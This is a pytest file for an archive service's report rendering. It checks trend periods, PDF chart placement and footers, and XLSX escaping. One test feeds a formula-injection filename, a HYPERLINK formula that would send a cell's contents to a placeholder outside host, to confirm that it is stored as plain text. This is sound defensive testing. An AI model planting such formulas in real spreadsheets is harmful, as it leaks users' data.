"""The trend fits its period, charts stay with their headings, footers keep their title, XLSX cells stay text."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from pypdf import PdfReader

from archive_service.reports.counting import CountedDocument
from archive_service.reports.model import DocumentScore, Report, ReportScope, RuleCount, Totals, TypeCount
from archive_service.reports.render_pdf import render_pdf
from archive_service.reports.render_xlsx import render_xlsx
from archive_service.reports.trend import trend


def _doc(i: int, day: date, errors: int) -> CountedDocument:
    d = CountedDocument(i, 1, f"{i}.pdf", None, "checked", "error", day)
    d.severities["error"] = errors
    return d


@pytest.mark.parametrize(
    ("start", "end", "unit", "steps", "first_label"),
    [
        (date(2024, 1, 1), date(2024, 12, 31), "month", 12, "01/2024"),
        (date(2024, 1, 1), date(2025, 6, 30), "month", 18, "01/2024"),
        (date(2022, 1, 1), date(2026, 10, 31), "quarter", 20, "Quý I/2022"),
        (date(2015, 1, 1), date(2026, 12, 31), "year", 12, "Năm 2015"),
    ],
)
def test_the_trend_spans_the_chosen_period_by_month_or_quarter_as_fits(
    start: date, end: date, unit: str, steps: int, first_label: str
) -> None:
    docs = [_doc(1, start, 2), _doc(2, end, 3)]
    got_unit, got = trend(docs, start, end)
    assert (got_unit, len(got), got[0].label) == (unit, steps, first_label)
    assert sum(s.errors for s in got) == 5 and got[-1].errors == 3


def _report(kind: str, title: str, n_types: int, n_rules: int = 12) -> Report:
    months = trend([_doc(i, date(2024, 1 + i % 12, 5), i % 4) for i in range(24)], date(2024, 1, 1), date(2024, 12, 31))
    return Report(
        scope=ReportScope(
            kind=kind,  # type: ignore[arg-type]
            title=title,
            office_code="VPTU",
            office_name="Văn phòng Tỉnh ủy Thanh Hóa",
            dossier_id=1 if kind == "dossier" else None,
            date_from=date(2024, 1, 1),
            date_to=date(2024, 12, 31),
            generated_at=datetime(2024, 12, 31, 9, 0, tzinfo=UTC),
            generated_by="vanthu",
        ),
        totals=Totals(documents=24),
        by_rule=[RuleCount(code=f"FMT-RULE-{i}", severity="error", count=20 - i, documents=3) for i in range(n_rules)],
        by_type=[
            TypeCount(document_type=f"LOẠI {i}", documents=1, documents_with_errors=1, errors=1, warnings=0)
            for i in range(n_types)
        ],
        by_month=months[1],
        trend_unit=months[0],
    )


def _pages(pdf: bytes) -> list[str]:
    return [" ".join(p.extract_text().split()) for p in PdfReader(io.BytesIO(pdf)).pages]


def test_the_trend_chart_stays_on_the_page_of_its_heading_wherever_the_page_breaks() -> None:
    """However long the tables above it, the heading, its chart and the chart's labels share one page."""
    for n_types in range(0, 40, 3):
        pages = _pages(render_pdf(_report("office", "Báo cáo", n_types)))
        heading = next(i for i, text in enumerate(pages) if "Xu hướng: số lỗi theo tháng" in text)
        assert "01/2024" in pages[heading] and "12/2024" in pages[heading], n_types
        rules = next(i for i, text in enumerate(pages) if "Theo loại lỗi và mức độ" in text)
        assert "FMT-RULE-0" in pages[rules], n_types  # the rules chart's first bar is under its heading


def test_the_dossier_pdf_footer_carries_its_whole_title_on_every_page() -> None:
    title = (
        "Báo cáo kiểm tra hồ sơ hội nghị: Hội nghị Ban Chấp hành Đảng bộ tỉnh lần thứ mười hai (mở rộng) về "
        "tổng kết công tác năm 2024 và phương hướng nhiệm vụ năm 2025 (Ban Chấp hành)"
    )
    pages = _pages(render_pdf(_report("dossier", title, 30)))
    assert len(pages) > 1
    for n, text in enumerate(pages, start=1):
        assert f"{title} — Trang {n}/{len(pages)}" in text


def test_an_xlsx_cell_that_looks_like_a_formula_stays_text() -> None:
    report = _report("office", "Báo cáo", 1)
    report.worst_documents = [
        DocumentScore(
            document_id=7,
            filename='=HYPERLINK("http://x.example/?"&A1,"Bấm")',
            symbol="@SUM(1+1)",
            document_type=None,
            issued_on=None,
            validation_status="error",
            errors=1,
            warnings=0,
            infos=0,
        )
    ]
    data = render_xlsx(report)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [(c.value[:2], c.data_type) for c in cells] == [("'=", "s")]
    symbols = [c for row in sheet.iter_rows() for c in row if c.value == "'@SUM(1+1)"]
    assert len(symbols) == 1 and symbols[0].data_type == "s"
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
